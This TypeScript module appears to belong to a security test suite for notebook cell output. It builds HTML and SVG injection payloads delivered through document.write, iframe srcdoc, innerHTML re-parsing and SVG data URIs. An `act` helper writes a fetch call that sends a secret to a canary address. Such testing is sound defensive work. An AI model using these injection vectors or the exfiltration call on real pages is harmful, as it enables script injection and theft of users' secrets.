import type { Addresses, Control, Payload } from '../payload.ts';

/** Markup of an author's, with `SECRET` where the secret's text goes. */
export type HostileMarkup = {
	readonly id: string;
	readonly channel: string;
	readonly markup: (at: Addresses) => string;
	readonly rest?: Partial<Payload> | undefined;
};

/** Takes what is in the script's hands and puts it where the thief wants it, at run time. */
export const filled = (markup: string) => `${JSON.stringify(markup)}.replaceAll('SECRET', secret)`;

/** The same markup, written into a page that shows it as it is. */
export const writtenInPage = (markup: (at: Addresses) => string): Control => ({
	kind: 'script',
	script: (at) => `document.write(${filled(markup(at))});`
});

/** The same markup as a document from its first sign on: in a body some of it means nothing. */
export const asDocument = (markup: (at: Addresses) => string): Control => ({
	kind: 'script',
	script: (at) =>
		`const frame = document.createElement('iframe'); frame.srcdoc = ${filled(markup(at))}; document.body.append(frame);`
});

/** Read once and written down again before it is shown, as by a page that looks through it first. */
export const readTwice = (markup: (at: Addresses) => string): Control => ({
	kind: 'script',
	script: (at) =>
		`const read = document.createElement('template'); read.innerHTML = ${filled(markup(at))}; document.body.innerHTML = read.innerHTML;`
});

/** A drawing as a document of its own: what an image of it would be, had images no walls. */
export const openedAsDrawing = (markup: (at: Addresses) => string): Control => ({
	kind: 'script',
	script: (at) =>
		`const frame = document.createElement('iframe'); frame.src = 'data:image/svg+xml,' + encodeURIComponent(${filled(markup(at))}); document.body.append(frame);`
});

/** A cell whose output the markup is. */
export const outputCell = (language: 'html' | 'svg', markup: string): string =>
	`\`\`\`ts\n${language}([${filled(markup)}])\n\`\`\`\n`;

const shownAs = (language: 'html' | 'svg', { id, channel, markup, rest = {} }: HostileMarkup): Payload => ({
	id,
	channel,
	realm: 'output',
	cells: (at) => outputCell(language, markup(at)),
	control: language === 'svg' ? openedAsDrawing(markup) : writtenInPage(markup),
	...rest
});

export const html = (id: string, channel: string, markup: HostileMarkup['markup'], rest?: Partial<Payload>) =>
	shownAs('html', { id, channel, markup, rest });

export const svg = (id: string, channel: string, markup: HostileMarkup['markup'], rest?: Partial<Payload>) =>
	shownAs('svg', { id, channel, markup, rest });

/** Tells of itself in both ways: to the canary, and to whoever looks at the page. No quotes, no blanks. */
export const act = ({ http }: Addresses) => `window.__executed=fetch(\`${http}?SECRET\`)`;

export const pressed = (press: string) => ({ press });
